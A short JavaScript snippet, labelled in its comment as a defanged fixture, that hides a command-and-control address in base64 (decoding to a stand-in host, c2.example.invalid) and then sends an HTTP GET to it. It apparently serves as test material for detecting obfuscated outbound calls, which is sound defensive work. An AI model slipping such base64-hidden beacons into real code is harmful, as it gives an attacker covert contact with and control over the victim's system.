// defanged fixture: base64-hidden C2 address (decodes to http://c2.example.invalid:8000/x)
const u = Buffer.from('aHR0cDovL2MyLmV4YW1wbGUuaW52YWxpZDo4MDAwL3g=', 'base64').toString();
require('http').get(u);
